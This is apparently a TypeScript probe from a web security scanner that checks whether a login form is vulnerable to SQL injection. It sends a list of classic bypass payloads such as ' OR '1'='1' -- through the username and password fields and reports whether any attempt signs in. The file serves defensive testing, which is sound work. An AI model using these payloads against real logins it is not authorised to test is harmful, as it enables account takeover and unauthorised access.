import { closed, defineProbe, open, skipped } from './probe.ts';
import type { Login, Target } from './probe.ts';
import { isSignedIn, trySignIn, visit } from './session.ts';
import { NOBODY } from './surface.ts';

const TRICKS = ["' OR '1'='1' -- ", "' OR 1=1 -- ", "') OR ('1'='1' -- ", '" OR "1"="1" -- ', "' OR 1=1 LIMIT 1 -- "];

export default defineProbe({
  id: 'sql-login-bypass',
  title: "Sign in with ' OR '1'='1",
  proves: 'Login input stays a value in the query.',
  owasp: 'A03:2021',
  cwe: 'CWE-89',
  protections: ['sql-injection'],
  needs: 'login',
  fresh: true,
  async run(target) {
    const { login } = target;
    const honest = visit(target);
    const refusal = await trySignIn(honest, login, NOBODY.identity, NOBODY.secret);
    if (refusal.status === 0) return skipped(`the login is not answered (${refusal.failure})`);
    if (refusal.status === 404) return skipped(`POST ${login.path}: 404`);
    if (await isSignedIn(honest, login, refusal)) return skipped('made-up credentials are let in');
    const known = login.user ? [`${login.user.identity}' -- `] : [];
    let { origin } = target;
    for (const trick of [...known, ...TRICKS]) {
      for (const [identity, secret, how] of [
        [trick, NOBODY.secret, 'as'],
        [login.user?.identity ?? 'admin', trick, 'with the password'],
      ] as const) {
        let attempt = await signInAs({ ...target, origin }, login, identity, secret);
        if (attempt.limited && target.renew) {
          origin = await target.renew();
          attempt = await signInAs({ ...target, origin }, login, identity, secret);
        }
        if (attempt.limited) return skipped('the limiter answered before the login did');
        if (attempt.signedIn) return open(`signed in ${how} ${trick.trim()}`);
      }
    }
    return closed('quotes in name and password stay values');
  },
});

/** One attempt, by a visitor without cookies. */
async function signInAs(
  target: Target,
  login: Login,
  identity: string,
  secret: string,
): Promise<{ limited: boolean; signedIn: boolean }> {
  const visitor = visit(target);
  const answer = await trySignIn(visitor, login, identity, secret);
  return { limited: answer.status === 429, signedIn: await isSignedIn(visitor, login, answer) };
}
